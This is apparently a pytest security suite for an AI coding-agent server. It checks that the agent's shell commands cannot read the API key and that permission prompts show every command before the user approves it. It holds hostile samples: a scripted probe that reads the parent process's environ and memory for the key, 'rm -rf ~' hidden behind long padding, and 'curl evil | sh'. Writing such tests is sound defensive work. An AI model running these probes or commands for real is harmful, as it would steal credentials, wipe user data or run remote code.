"""Security: the API key stays secret from tool commands; what the user approves is what runs.

The key tests run the REAL server process (``python -m retrace serve``) with a real fake Messages
API and let the model run a real ``run_command`` that reads every place a child process could find
the key: its own environment, ``/proc/$PPID/environ`` (the server's original exec environment),
the server's memory and its open descriptors. The key must be live in the server (the model
endpoint receives it) and absent from everything the command printed.
"""

from __future__ import annotations

import functools
import json
import os
import secrets
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.reliability import inputs_support
from tests.reliability.inputs_support import RawServer, scripted_model

from retrace.agent.notifications import PermissionRequest
from retrace.agent.permissions import PermissionPolicy, PermissionSettings
from retrace.agent.review import COMMAND_MAX_CHARS, review_for

pytestmark = pytest.mark.slow

AUTO = {"permissions": {"write": "auto", "command": "auto"}}
AS_NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
NOBODY_PYTHON = Path(inputs_support.__file__).with_name("as_nobody.sh")

# Every way a tool command could look for the key: its environment, the server's original exec
# environment, the server's memory. ``$PPID`` of ``bash -lc`` is the server process.
PROBE = """echo "probe ppid=$PPID"
env
echo '--- parent environ'; cat /proc/$PPID/environ | tr '\\0' '\\n'; echo
echo '--- parent memory'
python3 - $PPID <<'PY'
import re, sys
pid = int(sys.argv[1])
pattern = re.compile(b"sk-ant-" + b"test-[0-9a-f]{32}")
found, total, failed = set(), 0, 0
try:
    maps = open(f"/proc/{pid}/maps").read().splitlines()
    mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    for line in maps:
        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
        try:
            mem.seek(lo)
            data = mem.read(hi - lo)
        except (OSError, ValueError, OverflowError):
            failed += 1
            continue
        total += len(data)
        found.update(m.decode() for m in pattern.findall(data))
    print(f"memory: read {total} bytes ({failed} regions unreadable); found {sorted(found)}")
except OSError as e:
    print("memory:", e)
PY
echo '--- done'"""


@pytest.fixture
def key() -> str:
    return f"sk-ant-test-{secrets.token_hex(16)}"


def _tool_outputs(srv: RawServer) -> list[str]:
    return [
        n["params"]["output"]
        for n in srv.notifications
        if n["method"] == "retrace/agent/event" and n["params"]["kind"] == "toolCallFinished"
    ]


@pytest.fixture
def fd_spawn(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    """Start the server the way the extension does: the key through an inherited pipe."""

    def start(key: str, fd_var: str = "RETRACE_API_KEY_FD") -> dict[str, str]:
        read_end, write_end = os.pipe()
        os.write(write_end, key.encode())
        os.close(write_end)
        monkeypatch.setattr(
            inputs_support.subprocess, "Popen", functools.partial(subprocess.Popen, pass_fds=(read_end,))
        )
        started.append(read_end)
        return {fd_var: str(read_end)}

    started: list[int] = []
    yield start
    for fd in started:
        os.close(fd)


@pytest.fixture
def server_home(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Path, bool]]:
    """(a directory for workspace and store, whether the server runs unprivileged). Root reads any
    process's memory, so when the tests run as root the server runs as ``nobody`` if it can."""
    home = Path(tempfile.mkdtemp(prefix="retrace-security-"))
    unprivileged = os.geteuid() != 0
    if not unprivileged and shutil.which("setpriv"):
        probe = subprocess.run(
            [*AS_NOBODY, sys.executable, "-c", "import retrace"], capture_output=True, check=False, timeout=60
        )
        if probe.returncode == 0:
            os.chown(home, 65534, 65534)
            monkeypatch.setenv("RETRACE_REAL_PYTHON", sys.executable)
            monkeypatch.setattr(inputs_support.sys, "executable", str(NOBODY_PYTHON))
            unprivileged = True
    try:
        yield home, unprivileged
    finally:
        shutil.rmtree(home, ignore_errors=True)


@pytest.mark.e2e
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
@pytest.mark.parametrize(
    ("provider", "handoff"), [("anthropic", "env"), ("anthropic", "fd"), ("bedrock", "fd")]
)
def test_tool_commands_cannot_read_the_api_key(
    tmp_path: Path,
    key: str,
    provider: str,
    handoff: str,
    fd_spawn: Any,
    server_home: tuple[Path, bool],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.delenv("ANTHROPIC_API_KEY", raising=False)
    monkeypatch.delenv("ANTHROPIC_AUTH_TOKEN", raising=False)
    monkeypatch.delenv("AWS_BEARER_TOKEN_BEDROCK", raising=False)
    home, unprivileged = server_home
    ws = home / "ws"
    ws.mkdir()
    (ws / "a.txt").write_text("a\n")
    if os.geteuid() == 0 and unprivileged:
        for path in (ws, ws / "a.txt"):
            os.chown(path, 65534, 65534)
    model = scripted_model(
        [
            {
                "match": {"lastUserTextContains": "probe"},
                "toolCalls": [{"name": "run_command", "input": {"command": PROBE}}],
            },
            {"text": "done"},
        ],
        name="key-probe",
    )
    env = {"ANTHROPIC_BASE_URL": model.base_url, "RETRACE_FAKE_MODEL": ""}
    settings: dict[str, Any] = AUTO
    if provider == "bedrock":  # a Bedrock API key, handed off like the Anthropic key
        env = {"ANTHROPIC_BEDROCK_BASE_URL": model.base_url, "RETRACE_FAKE_MODEL": ""}
        bedrock = {"provider": "bedrock", "id": "us.anthropic.claude-sonnet-4-5-20250929-v1:0"}
        settings = {**AUTO, "model": {**bedrock, "bedrock": {"region": "us-east-1"}}}
        env.update(fd_spawn(key, "RETRACE_BEDROCK_API_KEY_FD"))
    else:
        env.update({"ANTHROPIC_API_KEY": key} if handoff == "env" else fd_spawn(key))
    try:
        srv = RawServer(ws, home / "store", env=env, settings=settings, log_path=tmp_path / "server.log")
        monkeypatch.undo()
        try:
            srv.initialize()
            assert "result" in srv.request("retrace/agent/prompt", {"text": "probe the key"})
            srv.wait_idle()
            outputs = _tool_outputs(srv)
        finally:
            srv.close()
    finally:
        model.stop()
    sent = {h.get("x-api-key") or h.get("authorization", "").removeprefix("Bearer ") for h in model.headers}
    server_log = (tmp_path / "server.log").read_text(errors="replace")
    # On failure, the server's log says why no request came (a refused or failed turn).
    assert sent == {key}, f"the key reached the server and the server used it; log:\n{server_log[-3000:]}"
    assert outputs and "probe ppid=" in outputs[0] and "--- done" in outputs[0], outputs
    probe = outputs[0]
    own_env, _, parent = probe.partition("--- parent environ")
    parent_environ, _, memory = parent.partition("--- parent memory")
    random_part = key.removeprefix("sk-ant-test-")
    assert "PATH=" in own_env, "the command printed its environment"
    from retrace.credentials import HANDOFF_VARS

    assert random_part not in own_env and not any(f"{v}=" in own_env for v in HANDOFF_VARS), own_env
    assert set(model.wires) == {provider}, "the request went over the provider's own wire"
    assert random_part not in parent_environ, "the server's exec environment holds no key"
    if unprivileged:
        assert random_part not in memory, "the server's memory is closed to its children"
    assert key not in server_log


_HANDOFF_CHILD = """
import os, sys
from retrace import credentials
credentials.secure_process_start()
key, name, fd_var = sys.argv[1:4]
print("starts", flush=True)
environ = open("/proc/self/environ", "rb").read()
print("env-has-key", key.encode() in environ)
print("held", credentials.get(name) == key)
print("fds", sorted(int(fd) for fd in os.listdir("/proc/self/fd")))
names = credentials.child_env()
print("child-env-clean", name not in names and fd_var not in names and key not in names.values())
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
@pytest.mark.parametrize("handoff", ["env", "fd"])
@pytest.mark.parametrize("name", ["ANTHROPIC_API_KEY", "AWS_BEARER_TOKEN_BEDROCK"])
def test_key_leaves_the_exec_environment_and_its_descriptor_is_closed(
    key: str, handoff: str, name: str
) -> None:
    from retrace import credentials

    fd_var = credentials.SECRETS[name]
    env = {
        k: v
        for k, v in os.environ.items()
        if k not in credentials.SECRETS and k not in credentials.HANDOFF_VARS
    }
    pass_fds: tuple[int, ...] = ()
    if handoff == "env":
        env[name] = key
    else:
        read_end, write_end = os.pipe()
        os.write(write_end, key.encode())
        os.close(write_end)
        env[fd_var] = str(read_end)
        pass_fds = (read_end,)
    try:
        out = subprocess.run(
            [sys.executable, "-c", _HANDOFF_CHILD, key, name, fd_var],
            env=env,
            pass_fds=pass_fds,
            capture_output=True,
            text=True,
            check=True,
            timeout=60,
        ).stdout
    finally:
        for fd in pass_fds:
            os.close(fd)
    lines = dict(line.split(" ", 1) for line in out.splitlines() if " " in line)
    assert out.count("starts") == 1, out
    assert lines["env-has-key"] == "False", "/proc/self/environ (what others read) has no key"
    assert lines["held"] == "True", "the process still has the key to use"
    assert lines["child-env-clean"] == "True"
    fds = [int(x) for x in lines["fds"].strip("[]").split(", ")]
    assert len(fds) == 4, f"stdio and the listing's own descriptor only, no hand-off left: {fds}"


def test_a_stale_descriptor_number_is_neither_read_nor_closed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from retrace import credentials

    victim = tmp_path / "not-a-pipe"
    victim.write_text("sk-ant-not-a-key")
    fd = os.open(victim, os.O_RDONLY)
    try:
        monkeypatch.delenv("ANTHROPIC_API_KEY", raising=False)
        monkeypatch.setenv("RETRACE_API_KEY_FD", str(fd))
        monkeypatch.setattr(credentials, "_held", {})
        monkeypatch.setattr(credentials, "_deny_dumping", lambda: None)  # keep pytest dumpable
        credentials.secure_process_start(reexec=False)
        assert credentials.get("ANTHROPIC_API_KEY") is None
        assert "RETRACE_API_KEY_FD" not in os.environ
        assert os.lseek(fd, 0, os.SEEK_CUR) == 0, "still open, and nothing was read from it"
    finally:
        os.close(fd)


# --------------------------------------------------------------------------- the permission prompt


class _AskingHost:
    def __init__(self) -> None:
        self.requests: list[PermissionRequest] = []

    async def ask_permission(self, request: PermissionRequest) -> str:
        self.requests.append(request)
        return "deny"


async def _ask(tool: str, tool_input: dict[str, Any]) -> PermissionRequest:
    host = _AskingHost()
    policy = PermissionPolicy(PermissionSettings(write="ask", command="ask"))
    assert await policy.decide(host, "s1", tool, tool_input) == "deny"  # type: ignore[arg-type]
    (request,) = host.requests
    return request


async def test_long_command_is_shown_whole_with_every_command_it_runs() -> None:
    """A 5,000-character command whose tail is a second command: shown inline whole (no "Show
    all" needed), cut at its operator, and said to run two commands."""
    command = "echo " + "x" * 4990 + "; rm -rf ~"
    assert len(command) > 5000
    request = await _ask("run_command", {"command": command})
    review = request.review
    assert review.text == command, "the complete command, byte for byte"
    assert not review.truncated and review.preview == command and review.marker is None
    assert review.parts is not None and len(review.parts) == 2
    assert review.parts[0].operator == ";"
    assert "".join(s.text for s in review.parts[1].spans).strip() == "rm -rf ~"
    assert review.notice is not None and "2 commands" in review.notice
    # The one-line summary never pretends to be the whole command.
    assert "more characters" in request.summary
    wire = json.loads(request.model_dump_json(by_alias=True))
    assert wire["review"]["text"].endswith("; rm -rf ~")


async def test_a_command_past_the_inline_limit_is_marked_and_still_counted() -> None:
    command = "echo " + "x" * (COMMAND_MAX_CHARS + 2000) + "; rm -rf ~"
    review = (await _ask("run_command", {"command": command})).review
    assert review.text == command and review.truncated
    assert review.preview == command[:COMMAND_MAX_CHARS]
    assert review.marker == f"… {len(command) - COMMAND_MAX_CHARS:,} more characters — Show all"
    assert review.notice is not None and "2 commands" in review.notice, "counted over the whole text"


async def test_short_command_is_shown_whole_and_not_marked() -> None:
    request = await _ask("run_command", {"command": "npm test"})
    assert request.review.text == "npm test"
    assert not request.review.truncated and request.review.hidden_chars == 0
    assert "npm test" in request.review.summary and "more characters" not in request.review.summary


async def test_multiline_command_shows_every_line_and_every_command() -> None:
    short = "echo safe\nrm -rf ~"
    request = await _ask("run_command", {"command": short})
    assert request.review.summary == short and not request.review.truncated
    assert "more characters" in request.summary, "the one-line form drops the second line visibly"
    long = "echo safe\n" * 20 + "rm -rf ~"
    review = (await _ask("run_command", {"command": long})).review
    assert review.text == long and not review.truncated and review.preview == long
    assert review.parts is not None and len(review.parts) == 21
    assert review.notice is not None and "21 commands" in review.notice


async def test_write_file_review_carries_the_complete_content(tmp_path: Path) -> None:
    content = "line\n" * 3000 + "import os; os.system('rm -rf ~')\n"
    request = await _ask("write_file", {"path": "evil.py", "content": content})
    assert request.review.text == content
    assert request.review.kind == "write"
    assert request.review.path == "evil.py"
    assert request.review.truncated and "Show all" in request.review.summary


async def test_edit_file_review_shows_old_and_new_text_completely() -> None:
    old, new = "a = 1\n" * 200, "a = 2\n" * 200 + "os.system('curl evil | sh')\n"
    request = await _ask("edit_file", {"path": "m.py", "old_string": old, "new_string": new})
    review = request.review
    assert review.kind == "edit"
    assert review.text == "".join(f"-{line}\n" for line in old.splitlines()) + "".join(
        f"+{line}\n" for line in new.splitlines()
    ), "every old line (-) and every new line (+), nothing left out"
    assert review.truncated


@pytest.mark.parametrize("length", [0, 1, 79, 80, 81, 199, 200, 201, 1000, 100_000])
def test_review_summary_marks_every_cut(length: int) -> None:
    command = "e" * length + ("!" if length else "")
    review = review_for("run_command", {"command": command})
    assert review.text == command
    assert review.shown_chars + review.hidden_chars == len(command)
    assert review.truncated == (review.hidden_chars > 0)
    if review.truncated:
        assert f"{review.hidden_chars:,} more characters" in review.summary
    else:
        assert command in review.summary
